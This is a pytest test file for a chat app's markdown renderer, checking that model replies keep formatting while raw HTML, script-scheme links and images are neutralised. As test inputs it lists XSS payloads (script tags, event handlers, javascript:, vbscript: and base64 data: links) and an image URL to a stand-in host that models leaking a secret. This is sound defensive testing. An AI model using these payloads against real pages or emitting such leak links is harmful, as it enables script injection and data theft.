"""Model output as HTML: Markdown features kept, anything executable dropped."""

from __future__ import annotations

import pytest

from chat.markdown import render_markdown


def test_it_highlights_code_blocks_under_a_language_label_with_a_copy_button():
    html = render_markdown("```js\nconst a = 1 < 2;\n```")
    assert html.startswith(
        '<div class="code-block"><div class="code-head"><span class="code-lang">js</span>'
        '<button type="button" class="copy-code" data-copy-code="">Copy</button></div>'
        '<pre><code class="language-js"><span class="kd">const</span>'
    )
    assert '<span class="o">&lt;</span>' in html  # highlighted, and still escaped


def test_code_in_an_unknown_language_is_shown_plain_under_its_label():
    html = render_markdown("```klingon\nqaStaH <nuq>\n```")
    assert '<span class="code-lang">klingon</span>' in html
    assert '<pre><code class="language-klingon">qaStaH &lt;nuq&gt;\n</code></pre>' in html


def test_it_renders_lists_tables_emphasis_and_links():
    html = render_markdown(
        "**bold** _it_ ~~old~~\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://example.com)"
    )
    for fragment in ("<strong>bold</strong>", "<em>it</em>", "<s>old</s>", "<li>one</li>", "<table>", "<td>1</td>"):
        assert fragment in html
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">docs</a>' in html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<iframe src="https://evil.example"></iframe>',
        '<svg onload="alert(1)"></svg>',
    ],
)
def test_raw_html_is_shown_as_text(hostile):
    html = render_markdown(hostile)
    assert "<" + hostile[1:] not in html
    assert html.startswith("<p>&lt;")


@pytest.mark.parametrize(
    "link",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
    ],
)
def test_dangerous_link_schemes_are_dropped(link):
    html = render_markdown(link)
    assert "href" not in html


def test_images_become_links_so_a_reply_cannot_make_the_browser_fetch_anything():
    html = render_markdown("![chart](https://evil.example/leak?q=secret)")
    assert "<img" not in html
    assert html == '<p><a href="https://evil.example/leak?q=secret" rel="noopener noreferrer nofollow">chart</a></p>\n'
    assert "<img" not in render_markdown("![a](javascript:alert(1))") and "href" not in render_markdown(
        "![a](javascript:alert(1))"
    )


def test_empty_text_renders_nothing():
    assert render_markdown("") == ""
